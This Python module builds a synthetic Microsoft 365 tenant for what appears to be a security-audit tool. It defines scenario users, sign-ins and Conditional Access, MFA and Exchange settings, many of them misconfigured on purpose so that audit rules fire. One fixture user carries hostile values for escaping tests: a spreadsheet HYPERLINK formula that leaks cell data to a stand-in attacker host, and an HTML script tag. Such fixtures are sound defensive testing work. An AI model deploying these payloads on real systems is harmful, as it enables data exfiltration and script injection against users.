"""The fixed cast and tenant-wide objects of a generated tenant (data for ``tenant_gen``).

Every scenario user exists to make one rule fire (or, as a clean counterpart, not fire); the comment on
each group of people says which. The tenant's configuration lists ``EMERGENCY_ACCESS`` as its emergency access
accounts (``auditor.demo.demo_config``). Tenant-wide objects (Conditional Access, named locations, legacy MFA
service settings, Exchange org settings) are built here in their wire shape.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Protocol

from auditor.model.roles import BUILTIN_ROLES, PRIVILEGED_ROLES
from auditor.model.special_accounts import DIRECTORY_SYNC_ACCOUNTS

STAFF_GROUP = "All Staff"
TIER0_GROUP = "Tier0 Admins"
TIER0_ROLE = "Exchange Administrator"
SERVICE_GROUP = "Service Accounts"
BREAKGLASS = "breakglass"
BREAKGLASS2 = "breakglass2"
#: the emergency access accounts a tenant's configuration lists (``classification.emergency_access``)
EMERGENCY_ACCESS = (BREAKGLASS, BREAKGLASS2)
SYNC_ACCOUNT = "sync_dc01_7f3e9a2c41b5"  # Entra Connect's Sync_<server>_<id> naming
SYNC_ACCOUNT_RISKY = "sync_legacy01_0b1d2e3f"
SYNC_ROLE = "Directory Synchronization Accounts"
#: roles the generated tenant defines beyond the built-in catalog of ``auditor.model.roles``
EXTRA_ROLES: dict[str, str] = {DIRECTORY_SYNC_ACCOUNTS: SYNC_ROLE}
GLOBAL_ADMIN_ID = next(tid for tid, name in PRIVILEGED_ROLES.items() if name == "Global Administrator")
SHAREPOINT_APP_ID = "00000003-0000-0ff1-ce00-000000000000"
EXCHANGE_APP_ID = "00000002-0000-0ff1-ce00-000000000000"
SMTP_AUTH_POLICY = "Allow SMTP AUTH for devices"

# Microsoft 365 E5 (includes Entra ID P2 and Exchange Online).
LICENSED = ("06ebc4ee-1bb5-47dd-8120-11324bc54e06",)
AUTHENTICATOR = ("microsoftAuthenticatorPush", "mobilePhone")
FIDO2 = ("fido2SecurityKey", "microsoftAuthenticatorPush")
PASSWORDLESS = frozenset(
    {
        "fido2SecurityKey",
        "windowsHelloForBusiness",
        "microsoftAuthenticatorPasswordless",
        "passKeyDeviceBound",
    }
)
METHOD_SETS = (
    AUTHENTICATOR,
    ("microsoftAuthenticatorPush", "softwareOneTimePasscode"),
    ("mobilePhone",),
    ("microsoftAuthenticatorPasswordless", "microsoftAuthenticatorPush"),
    FIDO2,
    ("windowsHelloForBusiness", "microsoftAuthenticatorPush"),
    ("email", "mobilePhone"),
    AUTHENTICATOR,
)
_PREFERRED = {
    "fido2SecurityKey": "Fido2",
    "microsoftAuthenticatorPush": "PushNotifications",
    "microsoftAuthenticatorPasswordless": "PushNotifications",
    "softwareOneTimePasscode": "Oath",
    "mobilePhone": "Sms",
    "windowsHelloForBusiness": "PushNotifications",
}


def preferred(methods: tuple[str, ...]) -> str:
    return next((_PREFERRED[m] for m in methods if m in _PREFERRED), "Sms")


@dataclass(frozen=True)
class Person:
    """A scenario user. ``key`` is the UPN local part (for a guest: the home e-mail address)."""

    key: str
    name: str
    title: str | None = "Consultant"
    dept: str | None = "Operations"
    mfa: str = "disabled"
    registered: bool = True
    methods: tuple[str, ...] = AUTHENTICATOR
    last: float | None = 2.0  # days since the last interactive sign-in; None = never signed in
    non_interactive: bool = True
    created: float = 900.0  # days ago
    enabled: bool = True
    guest: bool = False
    mailbox: tuple[bool, bool, bool | None] | None = (False, False, True)  # IMAP, POP, SmtpClientAuthDisabled
    roles: tuple[tuple[str, str], ...] = ()  # (role name, "active" | "eligible")
    staff: bool = True
    service: bool = False
    tier0: bool = False
    synced: bool = False
    interactive: bool = True  # False: only non-interactive sign-ins (``last`` dates the non-interactive one)
    pim_group: bool = False  # PIM-for-Groups eligible member of the role-assignable group "Tier0 Admins"
    shared: bool = False  # the user object behind a shared mailbox (Get-Mailbox RecipientTypeDetails)
    auth_policy: str | None = None  # Get-User AuthenticationPolicy (None: the organisation default applies)


# fmt: off
_MATRIX_NAMES = (
    ("allan.deyoung", "Allan Deyoung"), ("debra.berger", "Debra Berger"), ("emily.braun", "Emily Braun"),
    ("enrico.cattaneo", "Enrico Cattaneo"),
)
# The combinations of ImapEnabled x PopEnabled x SmtpClientAuthenticationDisabled (true/false/null) that no other
# scenario mailbox has: with them the cast holds all twelve (a tenant as small as 40 users included).
_MATRIX = ((False, True, True), (False, True, False), (True, False, True), (True, True, False))
_GA, _ACTIVE = "Global Administrator", "active"

SCENARIOS: tuple[Person, ...] = (
    # --- Admins (role holders) ---
    # admin-app-passwords critical/observed: per-user MFA enforced + successful legacy SMTP sign-ins.
    Person("adele.vance", "Adele Vance", "IT Director", "IT", mfa="enforced", last=1,
           mailbox=(True, False, False), roles=((_GA, _ACTIVE),)),
    # admin-app-passwords high/possible: per-user MFA enabled, no legacy sign-ins.
    Person("alex.wilber", "Alex Wilber", "Identity Engineer", "IT", mfa="enabled",
           mailbox=(False, True, None), roles=(("User Administrator", _ACTIVE),)),
    # PIM-eligible only.
    Person("isaiah.langer", "Isaiah Langer", "Security Analyst", "Security",
           roles=(("Security Administrator", "eligible"),)),
    # Exchange Administrator through the role-assignable group "Tier0 Admins" (TIER0_ROLE).
    Person("megan.bowen", "Megan Bowen", "Messaging Engineer", "IT", mailbox=(True, True, None), tier0=True),
    # admin-no-mfa-method.
    Person("lee.gu", "Lee Gu", "Service Desk Lead", "IT", registered=False, mailbox=(False, False, None),
           roles=(("Helpdesk Administrator", _ACTIVE),)),
    # guest-admin.
    Person("patti.fernandez@fabrikam.com", "Patti Fernandez (Fabrikam)", None, None, guest=True, last=10,
           mailbox=None, staff=False, roles=(("Reports Reader", _ACTIVE),)),
    # stale-admin: last sign-in 200 days ago, and never signed in.
    Person("diego.siciliani", "Diego Siciliani", "Finance Manager", "Finance", last=200,
           non_interactive=False, roles=(("Billing Administrator", _ACTIVE),)),
    Person("grady.archie", "Grady Archie", "Auditor", "Finance", last=None, created=150,
           roles=(("Global Reader", _ACTIVE),)),
    # Clean admin: no per-user MFA, registered, recent sign-in, mailbox locked down.
    Person("nestor.wilke", "Nestor Wilke", "Collaboration Lead", "IT",
           roles=(("SharePoint Administrator", _ACTIVE),)),
    # --- Emergency access accounts (classification.emergency_access) and PIM ---
    # Break-glass account as Microsoft and CIS 1.1.2 want it: excluded from Conditional Access, permanent active
    # Global Administrator, FIDO2, no mailbox or licence, cloud-only. Configured as emergency access, it fires
    # nothing; unconfigured, it is ca-mfa-excluded (high) and emergency-access-weak lists it as a candidate.
    Person(BREAKGLASS, "Break Glass (emergency access)", None, None, methods=FIDO2, last=25, mailbox=None,
           staff=False, roles=((_GA, _ACTIVE),)),
    # Second emergency access account, weak (emergency-access-weak): no phishing-resistant method and only
    # PIM-eligible for Global Administrator. Both break-glass accounts are in EMERGENCY_ACCESS (demo config).
    Person(BREAKGLASS2, "Break Glass 2 (emergency access)", None, None, methods=AUTHENTICATOR, last=60,
           mailbox=None, staff=False, roles=((_GA, "eligible"),)),
    # PIM-eligible Global Administrator behind the admin policy's Global Administrator role exclusion and outside
    # All Staff: ca-mfa-excluded "on activation".
    Person("amir.rahman", "Amir Rahman", "Cloud Architect", "IT", methods=FIDO2, staff=False,
           roles=((_GA, "eligible"),)),
    # PIM-for-Groups eligible member of Tier0 Admins (Exchange Administrator once activated): phone-only methods
    # (admin-phone-only-mfa) and never activated for 120 days (stale-admin, eligible via the group).
    Person("johanna.lorenz", "Johanna Lorenz", "Messaging Administrator", "IT", methods=("mobilePhone",),
           last=120, non_interactive=False, pim_group=True),
    # --- Directory sync accounts (Directory Synchronization Accounts role) ---
    # Entra Connect's account as Microsoft sets it up: sync role only, excluded from CA, non-interactive only.
    Person(SYNC_ACCOUNT, "On-Premises Directory Synchronization Service Account", None, None, registered=False,
           last=0.05, interactive=False, mailbox=None, staff=False, roles=((SYNC_ROLE, _ACTIVE),)),
    # A sync account someone also made Global Administrator and signs in with interactively (sync-account-risk);
    # as a Global Administrator it is an admin like any other (ca-mfa-excluded through the role exclusion).
    Person(SYNC_ACCOUNT_RISKY, "Directory Sync (old server)", None, None, last=3, mailbox=None, staff=False,
           roles=((SYNC_ROLE, _ACTIVE), (_GA, _ACTIVE))),
    # --- Service accounts (default UPN regex; all in the "Service Accounts" group) ---
    # svc-scanner: per-user MFA enforced must NOT fire daily-account-per-user-mfa; IMAP + SMTP AUTH on;
    # successful legacy SMTP; in All Staff but excluded from its legacy-auth block (legacy-auth-block-excluded);
    # assigned the Exchange authentication policy that allows Basic SMTP (exchange-basic-auth-allowed).
    Person("svc-scanner", "Scanner Service", None, None, mfa="enforced", registered=False, last=0.2,
           mailbox=(True, False, False), service=True, auth_policy=SMTP_AUTH_POLICY),
    # svc-relay: pinned to HQ by a block-outside-location policy (must NOT fire ca-mfa-excluded).
    Person("svc-relay", "SMTP Relay", None, None, registered=False, last=0.3, mailbox=(False, False, False),
           staff=False, service=True),
    Person("noreply", "No Reply", None, None, registered=False, last=3, mailbox=(False, False, None),
           staff=False, service=True),
    Person("printer-3f", "Printer 3rd Floor", None, None, registered=False, last=1,
           mailbox=(False, True, None), staff=False, service=True),
    # --- Daily accounts with per-user MFA (daily-account-per-user-mfa: enforced medium, enabled low) ---
    Person("joni.sherman", "Joni Sherman", "Paralegal", "Legal", mfa="enforced"),
    Person("lynne.robbins", "Lynne Robbins", "Planner", "Operations", mfa="enforced", synced=True),
    # Excluded from "Require MFA for All Staff": no CA covers her (ca-mfa-excluded, per-user-mfa-migration-gap).
    Person("miriam.graham", "Miriam Graham", "Director", "Sales", mfa="enforced"),
    Person("pradeep.gupta", "Pradeep Gupta", "Accountant", "Finance", mfa="enabled"),
    Person("lidia.holloway", "Lidia Holloway", "Product Manager", "Engineering", mfa="enabled", synced=True),
    Person("henrietta.mueller", "Henrietta Müller", "Developer", "Engineering", mfa="enabled"),
    # Disabled accounts with per-user MFA enforced: must NOT fire.
    Person("christie.cline", "Christie Cline", "Buyer", "Procurement", mfa="enforced", enabled=False,
           last=150),
    Person("irvin.sayers", "Irvin Sayers", "Engineer", "Engineering", mfa="enforced", enabled=False,
           last=300, mailbox=None),
    # --- Mailbox matrix: the IMAP x POP x SMTP AUTH combinations the rest of the cast lacks ---
    *(Person(key, name, "Specialist", "Operations", mailbox=combo)
      for (key, name), combo in zip(_MATRIX_NAMES, _MATRIX, strict=True)),
    # --- Legacy sign-ins by daily users; uma.patel has failed attempts only (must NOT fire) ---
    Person("ryan.hart", "Ryan Hart", "Analyst", "Finance", mailbox=(True, True, True)),
    Person("sofia.marin", "Sofía Marín", "Field Engineer", "Operations"),
    Person("tomas.kral", "Tomáš Král", "Technician", "Facilities", methods=("mobilePhone",)),  # phone-only
    Person("uma.patel", "Uma Patel", "Analyst", "Sales"),
    # --- Shared mailboxes with their user objects: one sign-in enabled (shared-mailbox-sign-in-enabled), one
    # disabled as Microsoft recommends (clean) ---
    Person("sales", "Sales (shared mailbox)", None, None, registered=False, last=None, shared=True,
           mailbox=(False, False, True), staff=False),
    Person("billing", "Billing (shared mailbox)", None, None, registered=False, last=None, shared=True,
           enabled=False, mailbox=(False, False, True), staff=False),
    # --- Hostile values: renderers must escape HTML and neutralise spreadsheet formulas ---
    Person("eve.mallory", '=HYPERLINK("http://attacker.invalid/?x="&A1,"Eve")',
           '<script>alert("title")</script>', "R&D <Lab>", mailbox=(True, False, None)),
)
# fmt: on


@dataclass(frozen=True)
class SignInPlan:
    key: str
    client: str
    count: int
    ips: tuple[str, ...]
    ok: bool = True
    interactive: bool | None = None  # None: every third sign-in of the tenant is interactive


SIGN_INS: tuple[SignInPlan, ...] = (
    SignInPlan("adele.vance", "Authenticated SMTP", 6, ("203.0.113.25", "198.51.100.40")),
    SignInPlan("adele.vance", "IMAP4", 2, ("192.0.2.200",), ok=False),
    SignInPlan("svc-scanner", "Authenticated SMTP", 30, tuple(f"198.51.100.{i}" for i in range(7, 14))),
    SignInPlan("svc-scanner", "IMAP4", 4, ("198.51.100.7",)),
    SignInPlan("svc-relay", "Authenticated SMTP", 10, ("203.0.113.10",)),
    SignInPlan("ryan.hart", "IMAP4", 3, ("192.0.2.44",)),
    SignInPlan("ryan.hart", "POP3", 2, ("192.0.2.44", "192.0.2.45")),
    SignInPlan("sofia.marin", "Exchange ActiveSync", 4, ("203.0.113.77",)),
    SignInPlan("tomas.kral", "Other clients", 2, ("198.51.100.90",)),
    SignInPlan("uma.patel", "Authenticated SMTP", 5, ("192.0.2.99",), ok=False),
    # Interactive sign-ins by a directory sync account (sync-account-risk).
    SignInPlan(SYNC_ACCOUNT_RISKY, "Exchange Online PowerShell", 2, ("198.51.100.61",), interactive=True),
)
EGRESS_IPS = tuple(f"203.0.113.{i}" for i in range(30, 60)) + tuple(f"192.0.2.{i}" for i in range(10, 40))

_FIRST = """
Aaron Abigail Adam Adrian Aisha Alan Alice Amara Amelia Ana Andrew Anna Anton Arjun Astrid Ben Bianca
Carlos Carmen Chen Chloe Chris Clara Daniel David Diana Dmitri Elena Eli Elif Emma Eric Ethan Fatima
Felix Fiona Frank George Grace Hana Hannah Harper Hassan Ian Ingrid Irene Ivan Jack James Jana Jasmine
Jean Jorge Julia Kai Karen Kenji Kevin Laila Laura Leo Liam Lina Lucas Lucy Luis Maja Maria Mark Marta
Mateo Maya Mei Mia Michael Mohammed Nadia Nathan Nina Noah Olga Oliver Olivia Paul Pedro Peter Priya
Rachel Rafael Rosa Ruth Samuel Sara Sean Simone Sophie Stefan Tara Thomas Victor Wei Yara Yusuf Zara
Zoë:zoe José:jose Björn:bjorn Renée:renee
"""
_LAST = """
Adams Ahmed Alvarez Andersen Bakker Baker Banerjee Becker Bennett Berg Brown Campbell Carter Castro Chen
Clark Collins Cooper Costa Davies Dubois Edwards Evans Fischer Flores Garcia Green Gupta Hall Hansen
Harris Hoffmann Hughes Jansen Jensen Johnson Jones Kaur Khan Kim Klein Kowalski Kumar Larsen Lee Lewis
Lopez Martin Meyer Miller Moore Morgan Murphy Nakamura Nguyen Nielsen Novak Okafor Olsen Parker Patel
Perez Peters Petrov Phillips Popescu Reyes Richter Roberts Rossi Santos Schmidt Schneider Silva Singh
Smith Sorensen Tanaka Taylor Thomas Turner Visser Wagner Walker Wang Watson Weber White Williams Wilson
Wong Wright Yamamoto Young Zhang O'Brien:obrien Núñez:nunez Østergaard:ostergaard Van_Dijk:vandijk
"""


def _names(text: str) -> tuple[tuple[str, str], ...]:
    """(display form, ASCII UPN form) pairs; ``Name:ascii`` gives the UPN form, ``_`` is a space."""
    pairs = []
    for word in text.split():
        shown, _, ascii_form = word.partition(":")
        pairs.append((shown.replace("_", " "), ascii_form or shown.lower()))
    return tuple(pairs)


FIRST_NAMES = _names(_FIRST)
LAST_NAMES = _names(_LAST)
PARTNER_DOMAINS = ("fabrikam.com", "northwindtraders.com", "adventure-works.com", "tailspintoys.com")
JOB_TITLES = (
    "Analyst",
    "Accountant",
    "Consultant",
    "Designer",
    "Developer",
    "Engineer",
    "Manager",
    "Coordinator",
    "Specialist",
    "Sales Representative",
    "Support Engineer",
    "Team Lead",
    "Director",
)
DEPARTMENTS = (
    "Finance",
    "Sales",
    "Marketing",
    "Engineering",
    "Operations",
    "Legal",
    "HR",
    "IT",
    "R&D",
    "Customer Success",
    "Procurement",
    "Facilities",
)

CA_KEYS = ("a", "b", "c", "d", "e", "f", "g", "h", "i", "j")
NAMED_LOCATIONS = ("hq", "branch", "partner", "cloud", "country")
AUTHENTICATION_POLICIES = ("block", "smtp")
_BASIC_AUTH = (
    "ActiveSync",
    "Autodiscover",
    "Imap",
    "Mapi",
    "OfflineAddressBook",
    "OutlookService",
    "Pop",
    "ReportingWebServices",
    "Rest",
    "Rpc",
    "Smtp",
    "WebServices",
    "Powershell",
)


class _Ids(Protocol):
    def uuids(self, n: int) -> list[str]: ...


def object_ids(stream: _Ids) -> dict[str, str]:
    """Ids of groups, CA policies, named locations and EXO policies (drawn in a fixed order)."""
    keys = (
        ["group:staff", "group:tier0", "group:service"]
        + [f"ca:{k}" for k in CA_KEYS]
        + [f"loc:{k}" for k in NAMED_LOCATIONS]
        + [f"authpol:{k}" for k in AUTHENTICATION_POLICIES]
    )
    return dict(zip(keys, stream.uuids(len(keys)), strict=True))


def cas_mailbox(
    guid: str, uid: str | None, name: str, mail: str, imap: bool, pop: bool, smtp_disabled: bool | None
) -> dict[str, Any]:
    return {
        "Guid": guid,
        "ExternalDirectoryObjectId": uid,
        "DisplayName": name,
        "PrimarySmtpAddress": mail,
        "ImapEnabled": imap,
        "PopEnabled": pop,
        "SmtpClientAuthenticationDisabled": smtp_disabled,
        "ActiveSyncEnabled": True,
        "OWAEnabled": True,
        "MAPIEnabled": True,
        "EwsEnabled": True,
        "ECPEnabled": True,
    }


def shared_mailbox(guid: str, domain: str) -> dict[str, Any]:
    """A shared mailbox that matches no user object (IMAP on, SMTP AUTH following the org)."""
    return cas_mailbox(guid, "", "Info Desk (shared)", f"info@{domain}", True, False, None)


def role_definitions() -> list[dict[str, Any]]:
    return [
        {
            "id": tid,
            "templateId": tid,
            "displayName": name,
            "description": f"Built-in role {name}.",
            "isBuiltIn": True,
            "isEnabled": True,
        }
        for tid, name in {**BUILTIN_ROLES, **EXTRA_ROLES}.items()
    ]


def security_defaults() -> dict[str, Any]:
    return {
        "id": "00000000-0000-0000-0000-000000000005",
        "displayName": "Security Defaults",
        "description": "Baseline identity protections managed by Microsoft.",
        "isEnabled": False,
    }


def _policy(
    pid: str,
    name: str,
    state: str,
    created: str,
    modified: str,
    *,
    users: dict[str, list[str]],
    apps: list[str],
    controls: list[str],
    client_apps: list[str] | None = None,
    locations: dict[str, list[str]] | None = None,
    strength: dict[str, Any] | None = None,
    exclude_apps: list[str] | None = None,
) -> dict[str, Any]:
    scope: dict[str, list[Any]] = {
        k: []
        for k in (
            "includeUsers",
            "excludeUsers",
            "includeGroups",
            "excludeGroups",
            "includeRoles",
            "excludeRoles",
        )
    }
    scope.update(users)
    return {
        "id": pid,
        "templateId": None,
        "displayName": name,
        "createdDateTime": created,
        "modifiedDateTime": modified,
        "state": state,
        "conditions": {
            "userRiskLevels": [],
            "signInRiskLevels": [],
            "servicePrincipalRiskLevels": [],
            "clientAppTypes": client_apps or ["all"],
            "platforms": None,
            "devices": None,
            "clientApplications": None,
            "locations": ({"includeLocations": [], "excludeLocations": [], **locations} if locations else None),
            "applications": {
                "includeApplications": apps,
                "excludeApplications": exclude_apps or [],
                "includeUserActions": [],
                "includeAuthenticationContextClassReferences": [],
                "applicationFilter": None,
            },
            "users": {**scope, "includeGuestsOrExternalUsers": None, "excludeGuestsOrExternalUsers": None},
        },
        "grantControls": {
            "operator": "OR",
            "builtInControls": controls,
            "customAuthenticationFactors": [],
            "termsOfUse": [],
            "authenticationStrength": strength,
        },
        "sessionControls": None,
    }


def ca_policies(
    obj: dict[str, str], people: dict[str, str], privileged: list[str], created: str, modified: str
) -> list[dict[str, Any]]:
    """Ten policies and no in-force MFA baseline for All users (so ``mfa-no-baseline`` fires):

    * MFA for the privileged roles, excluding the break-glass accounts, the sync account and — the classic
      mistake — the Global Administrator role, which exempts PIM-eligible Global Administrators on activation;
    * MFA for All Staff (a group-scoped all-apps policy: admins outside the group are not covered) excluding one
      per-user-MFA user;
    * a legacy block split across two policies for All users, one per client type: the ActiveSync one excludes
      SharePoint Online and exempts the branch office, the other-clients one excludes Exchange Online and so blocks
      nothing that matters;
    * report-only all-users MFA, MFA-or-compliant-device and legacy blocks that count for nothing.
    """
    bg, bg2, scanner, relay = people[BREAKGLASS], people[BREAKGLASS2], people["svc-scanner"], people["svc-relay"]
    sync, miriam = people[SYNC_ACCOUNT], people["miriam.graham"]
    report_only = "enabledForReportingButNotEnforced"
    strength = {
        "id": "00000000-0000-0000-0000-000000000004",
        "createdDateTime": created,
        "modifiedDateTime": created,
        "displayName": "Phishing-resistant MFA",
        "description": "Phishing-resistant, passwordless methods.",
        "policyType": "builtIn",
        "requirementsSatisfied": "mfa",
        "allowedCombinations": ["windowsHelloForBusiness", "fido2", "x509CertificateMultiFactor"],
    }
    legacy = ["exchangeActiveSync", "other"]
    emergency = [bg, bg2]
    p = _policy
    return [
        p(
            obj["ca:a"],
            "Require MFA for all users",
            report_only,
            created,
            modified,
            users={"includeUsers": ["All"], "excludeUsers": emergency},
            apps=["All"],
            controls=["mfa"],
        ),
        p(
            obj["ca:b"],
            "Require MFA for admins",
            "enabled",
            created,
            modified,
            users={
                "includeRoles": list(privileged),
                "excludeUsers": [*emergency, sync],
                "excludeRoles": [GLOBAL_ADMIN_ID],
            },
            apps=["All"],
            controls=["mfa"],
        ),
        p(
            obj["ca:c"],
            "Phishing-resistant MFA for Office 365",
            "enabled",
            created,
            modified,
            users={"includeUsers": ["All"], "excludeUsers": emergency, "excludeGroups": [obj["group:service"]]},
            apps=["Office365"],
            controls=[],
            strength=strength,
        ),
        p(
            obj["ca:d"],
            "Block legacy authentication (staff)",
            "enabled",
            created,
            modified,
            users={"includeGroups": [obj["group:staff"]], "excludeUsers": [scanner]},
            apps=["All"],
            controls=["block"],
            client_apps=legacy,
        ),
        p(
            obj["ca:e"],
            "Block legacy authentication (all users)",
            report_only,
            created,
            modified,
            users={"includeUsers": ["All"], "excludeUsers": emergency},
            apps=["All"],
            controls=["block"],
            client_apps=legacy,
        ),
        p(
            obj["ca:f"],
            "Pin svc-relay to HQ egress",
            "enabled",
            created,
            modified,
            users={"includeUsers": [relay]},
            apps=["All"],
            controls=["block"],
            locations={"includeLocations": ["All"], "excludeLocations": [obj["loc:hq"]]},
        ),
        p(
            obj["ca:g"],
            "Require MFA or compliant device (pilot)",
            report_only,
            created,
            modified,
            users={"includeUsers": ["All"], "excludeUsers": emergency},
            apps=["All"],
            controls=["mfa", "compliantDevice"],
        ),
        p(
            obj["ca:h"],
            "Require MFA for All Staff",
            "enabled",
            created,
            modified,
            users={"includeGroups": [obj["group:staff"]], "excludeUsers": [miriam]},
            apps=["All"],
            controls=["mfa"],
        ),
        p(
            obj["ca:i"],
            "Block Exchange ActiveSync basic auth (all users)",
            "enabled",
            created,
            modified,
            users={"includeUsers": ["All"], "excludeUsers": [*emergency, sync]},
            apps=["All"],
            exclude_apps=[SHAREPOINT_APP_ID],
            controls=["block"],
            client_apps=["exchangeActiveSync"],
            locations={"includeLocations": ["All"], "excludeLocations": [obj["loc:branch"]]},
        ),
        p(
            obj["ca:j"],
            "Block other legacy clients (all users)",
            "enabled",
            created,
            modified,
            users={"includeUsers": ["All"], "excludeUsers": [*emergency, sync]},
            apps=["All"],
            exclude_apps=[EXCHANGE_APP_ID],
            controls=["block"],
            client_apps=["other"],
        ),
    ]


def _cidr(address: str) -> dict[str, str]:
    kind = "iPv6CidrRange" if ":" in address else "iPv4CidrRange"
    return {"@odata.type": f"#microsoft.graph.{kind}", "cidrAddress": address}


def named_locations(obj: dict[str, str], created: str) -> list[dict[str, Any]]:
    def ip(key: str, name: str, trusted: bool, ranges: list[dict[str, str]]) -> dict[str, Any]:
        return {
            "@odata.type": "#microsoft.graph.ipNamedLocation",
            "id": obj[f"loc:{key}"],
            "displayName": name,
            "createdDateTime": created,
            "modifiedDateTime": created,
            "isTrusted": trusted,
            "ipRanges": ranges,
        }

    return [
        ip("hq", "HQ", True, [_cidr("203.0.113.0/24"), _cidr("2001:db8:1::/48")]),
        ip("branch", "Branch Amsterdam", False, [_cidr("198.51.100.0/25")]),
        ip(
            "partner",
            "Partner range",
            True,
            [
                {
                    "@odata.type": "#microsoft.graph.iPv4Range",
                    "lowerAddress": "198.51.101.200",
                    "upperAddress": "198.51.102.20",
                }
            ],
        ),
        ip("cloud", "Cloud egress", True, [_cidr("20.32.0.0/14"), _cidr("2001:db8::/32")]),
        {
            "@odata.type": "#microsoft.graph.countryNamedLocation",
            "id": obj["loc:country"],
            "displayName": "Embargoed countries",
            "createdDateTime": created,
            "modifiedDateTime": created,
            "countriesAndRegions": ["CU", "IR", "KP", "SY"],
            "countryLookupMethod": "clientIpAddress",
            "includeUnknownCountriesAndRegions": False,
        },
    ]


def mfa_service_policy() -> dict[str, Any]:
    """Legacy MFA service settings: one trusted range per overlap / private / breadth case, one clean."""
    return {
        "allowAppPasswords": True,
        "trustedIps": {
            "skipMfaForFederatedUsers": True,  # federated-mfa-bypass
            "ipRanges": [
                "203.0.113.0/24",  # identical to HQ
                "198.51.100.0/24",  # contains Branch Amsterdam
                "203.0.113.128/25",  # contained in HQ
                "198.51.102.0/24",  # overlaps the Partner range
                "10.20.0.0/16",  # private
                "192.0.2.0/24",  # documentation range
                "172.16.0.0/12",  # private and too broad
                "52.10.20.0/24",  # clean public range
            ],
        },
        "rememberMfaOnTrustedDevice": {"isEnabled": True, "allowedNumberOfDays": 14},
    }


def auth_methods_policy(modified: str) -> dict[str, Any]:
    def method(kind: str, mid: str, state: str) -> dict[str, Any]:
        return {
            "@odata.type": f"#microsoft.graph.{kind}AuthenticationMethodConfiguration",
            "id": mid,
            "state": state,
            "excludeTargets": [],
        }

    return {
        "id": "authenticationMethodsPolicy",
        "displayName": "Authentication Methods Policy",
        "description": "Which authentication methods users may register and use.",
        "lastModifiedDateTime": modified,
        "policyVersion": "1.5",
        "reconfirmationInDays": 0,
        "policyMigrationState": "migrationInProgress",
        "registrationEnforcement": {
            "authenticationMethodsRegistrationCampaign": {
                "snoozeDurationInDays": 1,
                "enforceRegistrationAfterAllowedSnoozes": True,
                "state": "default",
                "excludeTargets": [],
                "includeTargets": [
                    {
                        "id": "all_users",
                        "targetType": "group",
                        "targetedAuthenticationMethod": "microsoftAuthenticator",
                    }
                ],
            }
        },
        "authenticationMethodConfigurations": [
            method("fido2", "Fido2", "enabled"),
            method("microsoftAuthenticator", "MicrosoftAuthenticator", "enabled"),
            method("temporaryAccessPass", "TemporaryAccessPass", "enabled"),
            method("sms", "Sms", "enabled"),
            method("voice", "Voice", "disabled"),
            method("email", "Email", "disabled"),
            method("softwareOath", "SoftwareOath", "disabled"),
            method("x509Certificate", "X509Certificate", "disabled"),
        ],
    }


def transport_config(domain: str) -> dict[str, Any]:
    return {
        "Identity": "Transport Settings",
        "Name": "Transport Settings",
        "SmtpClientAuthenticationDisabled": False,
        "AllowLegacyTLSClients": False,
        "MaxRecipientEnvelopeLimit": "500",
        "ExternalPostmasterAddress": f"postmaster@{domain}",
    }


def authentication_policies(obj: dict[str, str]) -> list[dict[str, Any]]:
    def policy(key: str, name: str, allowed: set[str]) -> dict[str, Any]:
        doc: dict[str, Any] = {"Name": name, "Identity": name, "Guid": obj[f"authpol:{key}"]}
        doc.update({f"AllowBasicAuth{p}": p in allowed for p in _BASIC_AUTH})
        return doc

    return [
        policy("block", "Block Basic Auth", set()),
        policy("smtp", SMTP_AUTH_POLICY, {"Smtp"}),
    ]


def organization_config(name: str, domain: str) -> dict[str, Any]:
    return {
        "Name": f"{name.lower()}.onmicrosoft.com",
        "Identity": f"{name.lower()}.onmicrosoft.com",
        "DisplayName": f"{name[:1].upper()}{name[1:]} Ltd",
        "DefaultAuthenticationPolicy": "Block Basic Auth",
        "OAuth2ClientProfileEnabled": False,  # exchange-modern-auth-disabled
        "SmtpActionableMessagesEnabled": True,
        "AuditDisabled": False,
        "IsDehydrated": False,
        "MicrosoftExchangeRecipientPrimarySmtpAddress": f"MicrosoftExchange@{domain}",
    }


#: built-in authentication strengths (ids fixed by Microsoft)
BUILTIN_STRENGTHS = (
    ("00000000-0000-0000-0000-000000000002", "Multifactor authentication", "mfa"),
    ("00000000-0000-0000-0000-000000000003", "Passwordless MFA", "mfa"),
    ("00000000-0000-0000-0000-000000000004", "Phishing-resistant MFA", "mfa"),
)


def authentication_strengths() -> list[dict[str, Any]]:
    return [
        {
            "id": sid,
            "displayName": name,
            "policyType": "builtIn",
            "requirementsSatisfied": req,
            "allowedCombinations": ["windowsHelloForBusiness", "fido2", "x509CertificateMultiFactor"],
        }
        for sid, name, req in BUILTIN_STRENGTHS
    ]


def mailbox_type(cas: dict[str, Any], shared: frozenset[str] = frozenset()) -> dict[str, Any]:
    """``Get-Mailbox`` for a mailbox of ``Get-CASMailbox``: shared when its user is in ``shared`` or it has no user."""
    owner = cas.get("ExternalDirectoryObjectId")
    return {
        "Guid": cas.get("Guid"),
        "ExternalDirectoryObjectId": owner,
        "DisplayName": cas.get("DisplayName"),
        "PrimarySmtpAddress": cas.get("PrimarySmtpAddress"),
        "RecipientTypeDetails": "SharedMailbox" if not owner or owner in shared else "UserMailbox",
    }


def exchange_user(cas: dict[str, Any], policies: dict[str, str] | None = None) -> dict[str, Any]:
    """``Get-User``: the per-user Exchange authentication policy by name (null: the organization default)."""
    owner = cas.get("ExternalDirectoryObjectId")
    return {
        "ExternalDirectoryObjectId": owner,
        "UserPrincipalName": cas.get("PrimarySmtpAddress"),
        "AuthenticationPolicy": (policies or {}).get(str(owner)),
    }
